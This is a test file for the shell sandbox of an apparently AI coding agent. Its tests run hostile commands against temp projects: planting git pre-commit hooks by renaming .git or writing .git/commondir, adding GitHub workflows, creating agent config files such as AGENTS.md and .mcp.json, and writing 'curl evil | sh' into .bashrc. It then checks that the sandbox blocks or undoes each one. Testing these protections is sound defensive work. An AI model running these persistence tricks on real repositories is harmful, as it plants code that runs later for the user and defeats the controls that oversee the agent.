/**
 * Protected paths inside the sandbox, attacked the way a hostile command would: renaming a protected
 * parent to get round the read-only binds, creating protected names that do not exist yet, and the tricks
 * the binds cannot cover (git's `commondir`), which the comparison after the command undoes. Every attack
 * runs on a temp project.
 */
import { assert, assertEquals, assertStrictEquals, assertStringIncludes } from "../../support/assert.ts";
import { join } from "node:path";
import {
  call,
  callResult,
  executeCommandTool,
  tempProject,
  type TestContext,
  testContext,
} from "../_helpers.ts";
import { git } from "../../support/planted_repo.ts";
import { guardedPaths } from "../../../src/tools/shell/guarded_paths.ts";

/** Mode required: were bubblewrap ever missing, these commands are refused instead of run unconfined. */
function sandboxed(root: string): TestContext {
  return testContext(root, { shell: { sandbox: "required", secrets: [] } });
}

async function exists(path: string): Promise<boolean> {
  return await Deno.lstat(path).then(() => true, () => false);
}

/** A project with a git repository (one commit) and a CI workflow. */
async function repoProject() {
  const project = await tempProject({ "a.txt": "a\n", ".github/workflows/ci.yml": "on: push\n" });
  await git(project.root, "init", "-q");
  await git(project.root, "add", "-A");
  await git(project.root, "commit", "-qm", "one");
  return project;
}

Deno.test("a command cannot rename .git away, copy it back writable and plant a hook that a later git commit runs", async () => {
  await using p = await repoProject();
  const config = await Deno.readTextFile(join(p.root, ".git/config"));
  const marker = join(p.outside, "hook-ran");
  const attack = [
    "mv .git .g && cp -a .g .git",
    "git config core.hooksPath .git/hooks",
    `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
    "mv .git/hooks .git/h && mkdir .git/hooks",
    "echo done",
  ].map((line) => `${line} 2>/dev/null`).join("; ");
  const result = await call(executeCommandTool, { command: attack }, sandboxed(p.root));
  assertStringIncludes(result.content, "done");
  assertEquals(await Deno.readTextFile(join(p.root, ".git/config")), config);
  assertEquals(await exists(join(p.root, ".git/hooks/pre-commit")), false);
  assertEquals(await exists(join(p.root, ".g")), false, "the rename failed: .git is a mount point inside");
  await git(p.root, "commit", "--allow-empty", "-qm", "the user's own commit, outside tern");
  assertEquals(await exists(marker), false, "the user's git commit ran a planted hook");
});

Deno.test("a command cannot rename .github away and write a workflow in a new one", async () => {
  await using p = await repoProject();
  const attack = "mv .github .gh 2>/dev/null; mkdir -p .github/workflows 2>/dev/null; " +
    "echo 'on: push' > .github/workflows/evil.yml 2>/dev/null; echo done";
  const result = await call(executeCommandTool, { command: attack }, sandboxed(p.root));
  assertStringIncludes(result.content, "done");
  assertEquals(await Deno.readTextFile(join(p.root, ".github/workflows/ci.yml")), "on: push\n");
  assertEquals(await exists(join(p.root, ".github/workflows/evil.yml")), false);
  assertEquals(await exists(join(p.root, ".gh")), false);
});

const MISSING_PROTECTED = [
  "AGENTS.md",
  "CLAUDE.md",
  ".claude/skills/x/SKILL.md",
  ".env",
  ".env.local",
  ".gitlab-ci.yml",
  ".husky/pre-commit",
  ".github/actions/x/action.yml",
  ".github/workflows/x.yml",
  ".circleci/config.yml",
  ".pre-commit-config.yaml",
  ".vscode/tasks.json",
  ".devcontainer/devcontainer.json",
  ".tern/settings.json",
  ".mcp.json",
  ".envrc",
];

Deno.test("protected names that do not exist yet cannot be created from the sandbox", async () => {
  for (const vscode of [false, true]) {
    await using p = await tempProject(vscode ? { ".vscode/settings.json": "{}\n" } : {});
    const attack = MISSING_PROTECTED.map((name) =>
      `mkdir -p "$(dirname ${name})" 2>/dev/null; echo planted > ${name} 2>/dev/null`
    ).join("; ") + "; echo fine > notes.txt";
    const result = await callResult(executeCommandTool, { command: attack }, sandboxed(p.root));
    for (const name of MISSING_PROTECTED) {
      assertEquals(await exists(join(p.root, name)), false, `${name} was created`);
    }
    assertEquals(await Deno.readTextFile(join(p.root, "notes.txt")), "fine\n");
    // Nothing to put back: what the binds did not stop (.env.local), the comparison removed and said.
    assertEquals(result.details?.restored, ["removed .env.local (created)"]);
    if (vscode) {
      assertEquals(await Deno.readTextFile(join(p.root, ".vscode/settings.json")), "{}\n");
    }
    const left = [...Deno.readDirSync(p.root)].map((entry) =>
      entry.name
    ).sort();
    assertEquals(left, vscode ? [".vscode", "notes.txt"] : ["notes.txt"], "no placeholder is left behind");
  }
});

Deno.test("the placeholders do not break git: git add -A and commit work in the sandbox", async () => {
  await using p = await repoProject();
  const command = "echo b > b.txt && git -c user.name=m -c user.email=m@m add -A && " +
    "git -c user.name=m -c user.email=m@m commit -qm two && git log --format=%s -1 && git status --short";
  const result = await call(executeCommandTool, { command }, sandboxed(p.root));
  assertEquals(result, { content: "two", isError: false });
  assertEquals((await git(p.root, "show", "--name-only", "--format=", "HEAD")).trim(), "b.txt");
});

Deno.test("what the binds cannot cover is undone after the command: a .git/commondir pointing git at a planted config", async () => {
  await using p = await repoProject();
  const marker = join(p.outside, "hook-ran");
  const attack = [
    "mkdir -p evil/hooks && cp -r .git/objects .git/refs .git/HEAD evil/",
    `printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = ${p.root}/evil/hooks\\n' > evil/config`,
    `printf '#!/bin/sh\\ntouch ${marker}\\n' > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit`,
    "echo ../evil > .git/commondir",
    "git config --get core.hooksPath",
  ].join(" && ");
  const result = await callResult(executeCommandTool, { command: attack }, sandboxed(p.root));
  assertStringIncludes(result.content, `${p.root}/evil/hooks`, "inside the sandbox the trick worked");
  assertStringIncludes(
    result.content,
    "the command changed protected paths, which tern undid: removed .git/commondir",
  );
  assertEquals(result.details?.restored, ["removed .git/commondir (created)"]);
  assertEquals(await exists(join(p.root, ".git/commondir")), false);
  await git(p.root, "commit", "--allow-empty", "-qm", "the user's own commit");
  assertEquals(await exists(marker), false, "the user's git commit ran the planted hook");
});

Deno.test("a sandboxed command that touches nothing protected gets no note", async () => {
  await using p = await repoProject();
  const result = await callResult(
    executeCommandTool,
    { command: "git status --short; echo ok" },
    sandboxed(p.root),
  );
  assertStrictEquals(result.content, "ok");
  assert(result.details?.restored === undefined);
});

Deno.test("a shell rc file gets a placeholder only in a home folder; elsewhere one made is removed after the command", async () => {
  await using project = await tempProject();
  const plan = guardedPaths(project.root);
  assert(!plan.guardMissing.dirs.includes(".bashrc"), "a placeholder outside a home folder");
  assert(plan.guardMissing.dirs.includes("AGENTS.md"));
  await plan.cleanUp();
  const result = await callResult(
    executeCommandTool,
    { command: "echo 'curl evil | sh' > .bashrc; echo made" },
    sandboxed(project.root),
  );
  assertStringIncludes(result.content, "made");
  assertStringIncludes(result.content, "removed .bashrc");
  assertStrictEquals(await exists(join(project.root, ".bashrc")), false);
});

Deno.test("in the home folder itself, a missing shell rc file is covered like every protected name", async () => {
  await using project = await tempProject();
  const home = Deno.env.get("HOME");
  Deno.env.set("HOME", project.root);
  try {
    const plan = guardedPaths(project.root);
    assert(plan.guardMissing.dirs.includes(".bashrc"));
    await plan.cleanUp();
  } finally {
    if (home === undefined) Deno.env.delete("HOME");
    else Deno.env.set("HOME", home);
  }
});
